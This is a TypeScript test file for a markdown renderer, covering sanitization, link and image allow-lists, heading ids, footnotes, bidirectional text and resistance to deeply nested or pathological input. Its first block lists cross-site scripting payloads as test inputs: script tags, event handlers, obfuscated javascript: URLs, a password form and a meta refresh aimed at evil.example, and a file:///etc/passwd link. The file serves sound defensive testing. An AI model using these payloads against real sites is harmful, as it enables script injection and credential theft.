import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";

import { safeImage, safeLink } from "./links.ts";
import { parse } from "./parse.ts";
import { Tree } from "./tree.tsx";

function render(markdown: string): string {
  const root = parse(markdown);
  if (!root) throw new Error("it is nested too deeply");
  return renderToStaticMarkup(<Tree root={root} />);
}

describe("a post that means harm does none", () => {
  test.each([
    ["<script>alert(1)</script>"],
    ["<img src=x onerror=alert(1)>"],
    ["<svg/onload=alert(1)>"],
    ["<iframe src='https://evil.example'></iframe>"],
    ["<style>body{display:none}</style>"],
    ["<a href='javascript:alert(1)'>x</a>"],
    ["<form action='https://evil.example'><input name=password></form>"],
    ["<base href='https://evil.example/'>"],
    ["<meta http-equiv=refresh content='0;url=https://evil.example'>"],
    ["text <b onmouseover=alert(1)>bold</b>"],
    ["<!-- <script>alert(1)</script> -->"],
    ["[x](javascript:alert(1))"],
    ["[x](JaVaScRiPt:alert(1))"],
    ["[x](java&#x73;cript:alert(1))"],
    ["[x](&#106;avascript:alert(1))"],
    ["[x](<java\tscript:alert(1)>)"],
    ["[x](\u0001javascript:alert(1))"],
    ["[x](vbscript:msgbox(1))"],
    ["[x](data:text/html,<script>alert(1)</script>)"],
    ["[x](blob:https://evil.example/1)"],
    ["[x](file:///etc/passwd)"],
    ["<javascript:alert(1)>"],
    ["[x][1]\n\n[1]: javascript:alert(1)"],
    ["![x](javascript:alert(1))"],
    ["![x](data:image/svg+xml,<svg onload=alert(1)>)"],
    ["![x](http://tracker.example/pixel.png)"],
    ["![x](//tracker.example/pixel.png)"],
    ["![x](/api/v1/user/logout)"],
    ['[x](https://x.example "onmouseover=alert(1)")'],
    ['![x" onerror="alert(1)](https://x.example/a.png)'],
    ["```js\n</code></pre><script>alert(1)</script>\n```"],
    ["| a |\n|---|\n| <script>alert(1)</script> |"],
    ["[^1]\n\n[^1]: <script>alert(1)</script>"],
  ])("%j", (markdown) => {
    const tags = [...render(markdown).matchAll(/<[a-z][^>]*>/g)].map(([tag]) => tag);
    for (const tag of tags) {
      expect(tag).not.toMatch(/^<(?:script|style|iframe|object|embed|form|base|meta|link|svg|b)\b/);
      // Attributes as they are, without their quoted values.
      const names = tag.replace(/="[^"]*"/g, "");
      expect(names).not.toMatch(/\son\w+/i);
      expect(tag).not.toMatch(/(?:href|src)="(?!https:|mailto:|#)[^"]/);
    }
  });
});

test.each([
  ["https://x.example/a?b#c", true],
  ["http://x.example", true],
  ["mailto:ada@example.com", true],
  ["/blog/1", true],
  ["#note", true],
  ["//x.example", true],
  ["javascript:alert(1)", false],
  [" javascript:alert(1)", false],
  ["java\nscript:alert(1)", false],
  ["data:text/html,x", false],
  ["ftp://x.example", false],
  ["java%09script:alert(1)", false],
  ["x.example/a", false],
  ["intent://x", false],
])("a link to %j is kept: %s", (address, kept) => {
  expect(safeLink(address)).toBe(kept ? address : undefined);
});

test.each([
  ["https://x.example/a.png", true],
  ["http://x.example/a.png", false],
  ["/a.png", false],
  ["//x.example/a.png", false],
  ["data:image/png;base64,AAAA", false],
])("a picture from %j is fetched: %s", (address, fetched) => {
  expect(safeImage(address)).toBe(fetched ? address : undefined);
});

describe("a post", () => {
  test("has its headings below the page's own, with no level left out", () => {
    const html = render("# A\n\n### B\n\n###### C\n\n## D\n\n# E");
    expect([...html.matchAll(/<(h\d)[^>]*>(\w)/g)].map(([, level, name]) => `${level} ${name}`)).toEqual(
      ["h2 A", "h3 B", "h4 C", "h3 D", "h2 E"],
    );
  });

  test("tells what is followed that a link to elsewhere is no recommendation", () => {
    expect(render("[x](https://x.example)")).toContain('rel="noopener noreferrer nofollow ugc"');
    expect(render("[x](/blog/1)")).not.toContain("rel=");
  });

  test("has pictures that come when they are near, and do not tell where they are shown", () => {
    const html = render("![A clock](https://x.example/a.png)");
    expect(html).toContain('alt="A clock"');
    expect(html).toContain('loading="lazy"');
    expect(html).toContain('referrerPolicy="no-referrer"');
  });

  test("has no link without words", () => {
    expect(render("[](https://x.example/)")).toContain(">https://x.example/</a>");
    expect(render("[![](https://x.example/a.png)](https://x.example/)")).toContain(
      ">https://x.example/</a>",
    );
  });

  test("has tables, tasks and footnotes", () => {
    const html = render("| a |\n|--:|\n| 1 |\n\n- [x] done\n- [ ] not\n\nText[^1]\n\n[^1]: Note");
    expect(html).toContain("<table>");
    expect(html).toContain('aria-label="Done"');
    expect(html).toContain('aria-label="To do"');
    expect(html).toContain("user-content-fn-1");
  });

  test("leads to its headings by GitHub's names, each once, and none of them the app's", () => {
    const html = render(
      "# Second part\n\n# Second part\n\n# Second-part 1\n\n# *Ça* `va`? ![x](https://x.example/a.png)\n\n# 第二部分\n\n# 🎉\n\n# main\n\n# fn 1\n\nText[^1]\n\n[^1]: Note",
    );
    const names = [...html.matchAll(/<h2 id="([^"]+)"/g)].map(([, id]) => id);
    expect(names).toEqual([
      "user-content-second-part",
      "user-content-second-part-1",
      "user-content-second-part-1-1",
      "user-content-ça-va",
      "user-content-第二部分",
      "user-content-section",
      "user-content-main",
      "user-content-section-fn-1",
    ]);
    const ids = [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(html).toContain('href="#second-part-1" aria-label="Link to this section: Second part"');
    expect(html).toContain('href="#%E7%AC%AC%E4%BA%8C%E9%83%A8%E5%88%86"');
  });

  test("keeps the way back from a note on the note's last line, where that is one of text", () => {
    const html = render("A[^a] b[^b]\n\n[^a]: One.\n\n    Two.\n\n[^b]: One.\n\n    - a list");
    expect(html).toMatch(/<p>Two\. <a class="footnote-return"/);
    expect(html).toMatch(/<\/ul><p class="footnote-back"> <a class="footnote-return"/);
  });

  test("has a picture apart where it has a line to itself, and small within one", () => {
    const apart = (markdown: string) => render(markdown).includes('class="picture picture-coming"');
    const address = "https://x.example/a.png";
    expect(apart(`![A](${address})`)).toBe(true);
    expect(apart(`[![A](${address})](https://x.example)`)).toBe(true);
    expect(apart(`![A][a]\n\n[a]: ${address}`)).toBe(true);
    expect(apart(`Look:\n![A](${address})\nThere.`)).toBe(true);
    expect(apart(`- ![A](${address})`)).toBe(true);
    expect(apart(`| a |\n|---|\n| ![A](${address}) |`)).toBe(true);
    expect(apart(`Look ![A](${address}) here`)).toBe(false);
    expect(apart(`## ![A](${address})`)).toBe(false);
    expect(apart("![ci](https://img.shields.io/x.svg)\n![ci](https://x.example/badge.svg)")).toBe(false);
  });

  test("is emphasized as its script has it", () => {
    expect(render("*Latin, ελληνικά, 1*")).toContain("<em>");
    expect(render("*「重要」ー*")).toContain('<em class="emphasis-dots">');
    expect(render("*مهم*")).toContain('<em class="emphasis-weight">');
    expect(render("*हिन्दी*")).toContain('<em class="emphasis-weight">');
  });

  test("has footnotes in the order in which they are named, and ways back to each place", () => {
    const html = render("One[^b], two[^a], three[^b].\n\n[^a]: A[^c]\n\n[^b]: B\n\n[^c]: C\n\n[^d]: D");
    expect([...html.matchAll(/<li id="user-content-fn-(\d)"><p>(\w)/g)].map(([, n, t]) => `${n} ${t}`)).toEqual(
      ["1 B", "2 A", "3 C"],
    );
    const ids = [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const [, target] of html.matchAll(/ href="#([^"]+)"/g)) expect(ids).toContain(target);
  });

  // What takes more than linear time would not come to an end in this.
  test("of the greatest length is shown, all of it", { timeout: 60_000 }, () => {
    const paragraph = "Some *words* of [a text](https://x.example) that `goes` on.\n\n";
    const html = render(paragraph.repeat(1_600));
    expect(html.match(/<a /g)).toHaveLength(1_600);
  });
});

describe("each block runs by its own first letter", () => {
  test.each([
    ["React\n\nمرحبا بالعالم.", '<p>React</p><p dir="rtl">مرحبا بالعالم.</p>'],
    ["`npm i` مرحبا\n\nReact", '<p dir="rtl"><code>npm i</code> مرحبا</p><p dir="ltr">React</p>'],
    ["React\n\n> مرحبا\n>\n> React", '<blockquote dir="rtl"><p dir="rtl">مرحبا</p><p dir="ltr">React</p></blockquote>'],
    ["React\n\n- مرحبا\n- React\n- 1", '<ul dir="rtl"><li dir="rtl">مرحبا</li><li dir="ltr">React</li><li dir="rtl">1</li></ul>'],
    ["React\n\n1. React\n2. مرحبا", '<ol><li>React</li><li dir="rtl">مرحبا</li></ol>'],
    ["React\n\n- one\n\n- **مرحبا**", '<li><p>one</p></li><li dir="rtl"><p dir="rtl"><strong>مرحبا</strong></p></li>'],
    ["React\n\n| 1 | مرحبا | React |\n|---|---|---|", '<th dir="rtl">1</th><th dir="rtl">مرحبا</th><th dir="ltr">React</th>'],
    ["React\n\n| مرحبا | 1 |\n|---|---|", 'class="table-frame" dir="rtl"'],
    ["React\n\n# مرحبا", '<div class="section-head" dir="rtl">'],
    ["React[^1]\n\n[^1]: مرحبا", '<li id="user-content-fn-1" dir="rtl"><p>مرحبا'],
    ["مرحبا\n\n---\n\n2026", '<p dir="rtl">2026</p>'],
    ["مرحبا\n\n```\nlet it = be\n```", 'dir="ltr"><code>let it = be'],
  ])("%j", (markdown, expected) => {
    expect(render(markdown)).toContain(expected);
  });
});

describe("a text that is nested too deeply has no form", { timeout: 60_000 }, () => {
  test.each([
    ["quotations", ">".repeat(2_000)],
    ["lists", `${"- ".repeat(500)}a`],
    ["both", "> - ".repeat(400)],
    ["emphasis", `${"*a **b ".repeat(150)}${"c** d*".repeat(150)}`],
    ["more than the parser's own stack holds", ">".repeat(20_000)],
  ])("%s", (_, markdown) => {
    expect(parse(markdown)).toBeUndefined();
  });
});

describe("once parsed, a text is shown in linear time, whatever it is", { timeout: 60_000 }, () => {
  const harmless = "Some *words* of [a text](https://x.example) that `goes` on.\n\n";
  test.each([
    ["quotations without end", ">\n"],
    ["quotations with code", "> ```\n"],
    ["emphasis that closes nothing", "*a_"],
    ["strikethrough that closes nothing", "~a"],
    ["brackets", "[a"],
    ["notes", "[^a] "],
    ["references", "[a] "],
    ["cells", "|a"],
    ["items", "- a\n"],
    ["addresses", "www.a "],
  ])("%s", (_, part) => {
    const length = 4_000;
    const sized = (text: string) => text.repeat(length / text.length);
    const hostile = parse(`${sized(part)}\n\n[a]: https://x.example\n[^a]: Note`);
    const plain = parse(sized(harmless));
    if (!hostile || !plain) throw new Error("it is nested too deeply");
    // The whole of the site's own work on a text; the parser's has a deadline.
    const steps = time(() => renderToStaticMarkup(<Tree root={hostile} />));
    const usual = time(() => renderToStaticMarkup(<Tree root={plain} />));
    expect(steps).toBeLessThan(1_000 + 50 * usual);
  });

  function time(work: () => void): number {
    const start = performance.now();
    work();
    return performance.now() - start;
  }
});

test("an address that is far too long is none: it would be copied for every link to it", () => {
  expect(safeLink(`https://x.example/${"a".repeat(10_000)}`)).toBeUndefined();
  expect(safeImage(`https://x.example/${"a".repeat(10_000)}`)).toBeUndefined();
});
